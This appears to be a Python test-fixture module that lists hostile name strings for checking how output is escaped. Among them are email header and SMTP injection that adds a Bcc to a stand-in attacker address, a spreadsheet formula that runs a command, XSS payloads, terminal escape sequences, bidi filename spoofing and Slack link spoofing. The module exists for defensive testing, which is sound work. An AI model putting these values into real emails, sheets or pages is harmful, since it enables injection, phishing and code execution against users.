"""Texts that a program may choose as a name, and that a way out may take for something else."""

from __future__ import annotations

from typing import Final

HOSTILE: Final = {
    "encoded word": "=?utf-8?q?x=0d=0aBcc:_evil=40example.com=0d=0aContent-Type:_text/html"
                    "=0d=0a=0d=0a<b>body</b>?=",
    "encoded word, base64": "=?utf-8?b?eA0KQmNjOiBldmlsQGV4YW1wbGUuY29t?=",
    "header": "x\r\nBcc: evil@example.com\r\n\r\nbody",
    "smtp": "x\r\n.\r\nMAIL FROM:<evil@example.com>",
    "ansi": "\x1b[2J\x1b[31mred\x9b1m",
    "osc": "\x1b]8;;http://evil.example\x07click\x1b]8;;\x07\x1b]0;title\x07",
    "html": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "formula": "=cmd|'/C calc'!A0",
    "formula later": "\t@SUM(1+1)",
    "formula in full width": " \uff1d1+1",
    "bidi": "pay\u202eexe.pdf\u2066x\u2069\u200f",
    "unseen": "a\u200b\u2060\ufeff\u3164\u2028b\u0085c",
    "slack mention": "<!channel> <@U012AB3CD> <!here|x>",
    "slack link": "<https://evil.example|Approve> *bold* `code` :tada:",
    "long": "long" * 64,
}  # fmt: skip
"""None is longer than a name may be."""

NEVER_STORED: Final = {"nul": "a\0b", "lone surrogate": "a\ud800b"}
"""The gateway refuses them; what shows text must hold all the same."""
